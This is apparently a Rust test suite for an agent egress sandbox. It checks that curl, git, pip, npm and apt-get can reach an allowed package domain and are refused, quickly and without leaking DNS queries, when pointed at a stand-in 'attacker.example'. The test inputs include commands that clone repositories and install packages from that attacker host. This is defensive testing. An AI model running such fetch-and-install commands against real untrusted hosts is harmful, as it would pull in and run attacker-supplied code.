//! Tools as agents use them, under a policy of names: an allowed host serves them, a forbidden one is never asked for.
//!
//! What they need is in `packages.txt`.

use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::Path,
    time::{Duration, Instant},
};

use egress_tests::{
    Names,
    network::{
        address::{BAD4, BAD6, GOOD4, GOOD6},
        reached,
    },
    run::at_best,
    site::Site,
    ssh::{SSH, SshServer},
};

/// Every host of the lab's site, below the allowed domain and below the forbidden one.
const HOSTS: [&str; 6] = ["www", "git", "pypi", "npm", "files", "mirror"];
const ALLOWED: &str = "packages.example";
const FORBIDDEN: &str = "attacker.example";
const POLICY: &str = "version: 1
name: tools
allow:
  - { host: '*.packages.example', ports: [22, 80, 443] }
";

/// No refusal takes longer than twice the same tool's other runs and this; a resolver's patience is 5 s.
const AT_ONCE: Duration = Duration::from_secs(2);

/// A tool: its words and what is found, if all is well, in its output or as the name of a file in its directory; and
/// what it says of a host that does not exist.
struct Tool<'a> {
    words: &'a [&'a str],
    done: &'a str,
    refused: &'a str,
}

/// The lab with its site.
struct Place {
    names: Names,
    zone: String,
    site: Site,
    ssh: SshServer,
}

impl Place {
    fn new() -> Self {
        let hosts = HOSTS.iter().map(|host| {
            format!(
                "{host}.{ALLOWED} 60 A {GOOD4}\n{host}.{ALLOWED} 60 AAAA {GOOD6}\n\
                 {host}.{FORBIDDEN} 60 A {BAD4}\n{host}.{FORBIDDEN} 60 AAAA {BAD6}\n"
            )
        });
        let zone: String = hosts.collect();
        let names = Names::serving(&zone, &[], &[]);
        let site = Site::start(&names.lab, &[ALLOWED, FORBIDDEN]);
        let ssh = SshServer::start(&names.lab);
        Self { names, zone, site, ssh }
    }

    /// The words for a domain, in an environment without this machine's own settings.
    fn words(&self, tool: &Tool<'_>, domain: &str, directory: &Path) -> Vec<String> {
        let path = std::env::var("PATH").unwrap_or_default();
        let home = directory.display().to_string();
        let settings = [format!("PATH={path}"), format!("HOME={home}"), "LC_ALL=C.UTF-8".to_owned()];
        let keys = self.ssh.keys().display().to_string();
        let fill = |word: &&str| {
            word.replace("{ssh}", SSH)
                .replace("{domain}", domain)
                .replace("{ca}", &self.site.authority().display().to_string())
                .replace("{keys}", &keys)
                .replace("KEYS", &keys)
                .replace("{home}", &home)
        };
        let words = tool.words.iter().map(fill);
        ["env".to_owned(), "-i".to_owned()].into_iter().chain(settings).chain(words).collect()
    }
}

/// A directory for a tool to work in.
fn directory() -> tempfile::TempDir {
    let directory = tempfile::tempdir().expect("a temporary directory");
    fs::set_permissions(directory.path(), fs::Permissions::from_mode(0o777)).expect("open the directory");
    directory
}

fn strings(words: &[String]) -> Vec<&str> {
    words.iter().map(String::as_str).collect()
}

impl Tool<'_> {
    fn is_done(&self, directory: &Path, output: &str) -> bool {
        output.contains(self.done) || directory.join(self.done).exists()
    }

    fn check(&self) {
        let place = Place::new();
        let names = &place.names;
        let home = directory();
        let (output, seen) = names.free(&strings(&place.words(self, FORBIDDEN, home.path())));
        let text = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
        assert!(output.status.success() && self.is_done(home.path(), &text), "without egress: {text}");
        assert!(reached(&seen.frames, BAD4.into()) || reached(&seen.frames, BAD6.into()), "{text}");
        assert!(seen.label("attacker"), "{text}");

        // What it says where the host does not exist is what it must say where it is refused.
        names.dns.change(&place.zone.replace(FORBIDDEN, "other.example"));
        let home = directory();
        let start = Instant::now();
        let (output, _) = names.free(&strings(&place.words(self, FORBIDDEN, home.path())));
        let free_took = start.elapsed();
        let text = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
        assert!(!output.status.success() && text.contains(self.refused), "no such host: {text}");
        names.dns.change(&place.zone);

        let run = names.run(POLICY);
        let home = directory();
        let start = Instant::now();
        let allowed = run.run(&strings(&place.words(self, ALLOWED, home.path())));
        let most = 2 * free_took.max(start.elapsed()) + AT_ONCE;
        let text = format!("{}{}", allowed.stdout, allowed.stderr);
        assert!(allowed.code() == 0 && self.is_done(home.path(), &text), "{text}");
        let frames = names.seen().frames;
        assert!(reached(&frames, GOOD4.into()) || reached(&frames, GOOD6.into()), "{text}");
        assert_eq!(allowed.summary("deny").0, 0, "{text}");

        names.forget();
        let home = directory();
        let start = Instant::now();
        let refused = run.run_apart(&strings(&place.words(self, FORBIDDEN, home.path())));
        let took = start.elapsed();
        let seen = names.seen();
        let text = format!("{}{}", refused.stdout, refused.stderr);
        assert_ne!(refused.code(), 0, "{text}");
        assert!(refused.stdout.contains(self.refused), "{text}");
        assert!(!seen.label("attacker") && !seen.strangers_asked(), "it got out: {:?} {text}", seen.asked);
        assert!(!reached(&seen.frames, BAD4.into()) && !reached(&seen.frames, BAD6.into()), "{text}");
        let took = at_best(took, most, || {
            drop(run.run_apart(&strings(&place.words(self, FORBIDDEN, directory().path()))));
        });
        assert!(took < most, "it took {took:?}, which is more than {most:?}: {text}");
        let questions = refused.questions();
        let told = questions.iter().filter(|event| event.to_string().contains(FORBIDDEN));
        assert!(told.count() > 0, "no event: {text}");
    }
}

fn check(words: &[&str], done: &str, refused: &str) {
    Tool { words, done, refused }.check();
}

#[test]
fn curl_over_http2() {
    let words = [
        "curl",
        "-sS",
        "--http2",
        "--cacert",
        "{ca}",
        "-w",
        "version %{http_version}",
        "https://www.{domain}/page",
    ];
    check(&words, "the page\nversion 2", "Could not resolve host: www.attacker.example");
}

#[test]
fn git_clone_over_https() {
    let words = ["git", "-c", "http.sslCAInfo={ca}", "clone", "https://git.{domain}/lab.git", "{home}/lab"];
    check(&words, "lab/.git/refs/remotes/origin", "Could not resolve host: git.attacker.example");
}

#[test]
fn git_clone_over_ssh() {
    let words = [
        "env",
        "GIT_SSH_COMMAND={ssh}",
        "git",
        "clone",
        "ssh://root@git.{domain}{keys}/repository.git",
        "{home}/lab",
    ];
    check(&words, "lab/.git/HEAD", "Could not resolve hostname git.attacker.example");
}

#[test]
fn pip_install() {
    let words = [
        "python3",
        "-m",
        "pip",
        "install",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--retries",
        "1",
        "--cert",
        "{ca}",
        "--index-url",
        "https://pypi.{domain}/{domain}/simple",
        "--target",
        "{home}/installed",
        "lab-package",
    ];
    check(&words, "installed/lab_package.py", "Name or service not known");
}

#[test]
fn npm_install() {
    let words = [
        "npm",
        "install",
        "--no-audit",
        "--no-fund",
        "--no-update-notifier",
        "--fetch-retries=0",
        "--cafile={ca}",
        "--registry=https://npm.{domain}/{domain}/npm/",
        "--prefix={home}",
        "lab-package",
    ];
    check(&words, "node_modules/lab-package/package.json", "ENOTFOUND npm.attacker.example");
}

/// Asks for SRV records too, which the policy does not list: that must not keep it from the mirror.
#[test]
fn apt_get_update() {
    let script = "mkdir -p {home}/lists/partial {home}/cache/archives/partial {home}/etc && touch {home}/status && \
        echo 'deb [trusted=yes] http://mirror.{domain}/debian ./' > {home}/sources.list && \
        apt-get update -o Dir::Etc={home}/etc -o Dir::Etc::SourceList={home}/sources.list -o Dir::State={home} \
        -o Dir::State::Lists={home}/lists -o Dir::State::Status={home}/status -o Dir::Cache={home}/cache \
        -o APT::Sandbox::User=root -o APT::Update::Error-Mode=any -o Acquire::Retries=0 \
        -o Acquire::GzipIndexes=false && cat {home}/lists/*Packages";
    check(&["sh", "-c", script], "Package: lab-package", "Could not resolve 'mirror.attacker.example'");
}
